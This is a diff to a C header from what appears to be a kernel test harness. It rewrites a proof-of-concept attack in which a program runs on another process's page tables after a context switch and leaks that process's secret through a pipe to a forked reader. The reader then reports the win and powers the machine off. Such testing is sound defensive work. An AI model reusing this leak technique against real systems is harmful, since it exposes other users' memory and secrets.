@@ -1,41 +1,53 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * other_tables.h - a program that goes on in another program's memory: it sleeps, and behind the
- * switch looks whether the other one's secret stands where its own memory was, and writes beside
- * it. It makes no further call (the kernel would ask whose page tables these are); the other
- * program says what the includer names (static const char won[]).
+ * other_tables.h - a program that goes on with the page tables of another program: it sleeps in a
+ * write to a full pipe, and behind the switch the kernel takes what it writes from the other one's
+ * memory, where a secret stands at that address. (Its own registers it does not find there: they
+ * stand in memory of its own.) A second program of the attacker's reads the pipe.
  */
 #pragma once
 #include "attack.h"
+
+#define PIPE_SIZE 65536
+
+static char memory[4096] __attribute__((aligned(4096)));
+static char filler[PIPE_SIZE];
+static int pipe_ends[2];
 
 static bool control(void)
 {
 	return is_ordinary();
 }
 
-static char memory[4096] __attribute__((aligned(4096)));
-#define MARK 256 /* where the other program is written to */
+static _Noreturn void read_secret(void)
+{
+	(void)own_cpu(0);
+	sleep_milliseconds(200);
+	for (long left = PIPE_SIZE; left > 0;)
+		left -= call3(__NR_read, pipe_ends[0], (long)filler, left);
+	if (call3(__NR_read, pipe_ends[0], (long)filler, sizeof(memory)) > 0 &&
+	    bytes_equal(filler, SECRET, sizeof(SECRET) - 1))
+		say_result("WON");
+	for (;;)
+		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
+		      LINUX_REBOOT_CMD_POWER_OFF, 0);
+}
 
-/* Another program's memory is all there is after the switch: only registers and constants count. */
-static const struct {
-	long seconds, nanoseconds;
-} pause_time = { 0, 20000000 };
+/* Before this program's tables are exchanged. */
+static void start_reader(void)
+{
+	call1(__NR_pipe, (long)pipe_ends);
+	call3(__NR_write, pipe_ends[1], (long)filler, PIPE_SIZE);
+	if (fork_program() == 0)
+		read_secret();
+	(void)own_cpu(1);
+}
 
 static _Noreturn void run_on_other_tables(void)
 {
-	__asm__ volatile("movl $35, %%eax\n\t" /* nanosleep */
-			 "leaq %0, %%rdi\n\t"
-			 "xorl %%esi, %%esi\n\t"
-			 "syscall\n\t"
-			 "cmpb $'t', %1\n\t"
-			 "jne 1f\n\t"
-			 "movb $1, %2\n"
-			 "1:\tpause\n\t"
-			 "jmp 1b"
-			 :
-			 : "m"(pause_time), "m"(memory[0]), "m"(memory[MARK])
-			 : "rax", "rdi", "rsi", "rdx", "rcx", "r11", "memory");
-	__builtin_unreachable();
+	call3(__NR_write, pipe_ends[1], (long)memory, sizeof(memory));
+	for (;;)
+		__asm__ volatile("pause");
 }
 
 static void victim(void)
@@ -45,10 +57,5 @@ static void victim(void)
 	/* Not where the attacker sleeps: between two tasks of one space no tables are loaded. */
 	(void)own_cpu(0);
 	append_text(&end, SECRET);
-	while (!((volatile char *)memory)[MARK])
-		sleep_milliseconds(10);
-	say_part(won);
-	for (;;)
-		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
-		      LINUX_REBOOT_CMD_POWER_OFF, 0);
+	victim_waits();
 }
